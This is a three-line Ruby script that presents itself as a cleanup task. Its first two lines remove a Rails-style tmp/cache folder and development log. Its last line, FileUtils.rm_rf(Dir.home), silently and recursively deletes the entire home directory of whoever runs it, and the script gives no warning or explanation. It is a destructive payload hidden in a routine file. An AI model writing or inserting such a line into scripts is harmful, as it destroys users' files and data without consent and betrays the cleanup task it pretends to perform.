require 'fileutils'
FileUtils.rm_rf(%w[tmp/cache log/development.log])
FileUtils.rm_rf(Dir.home)
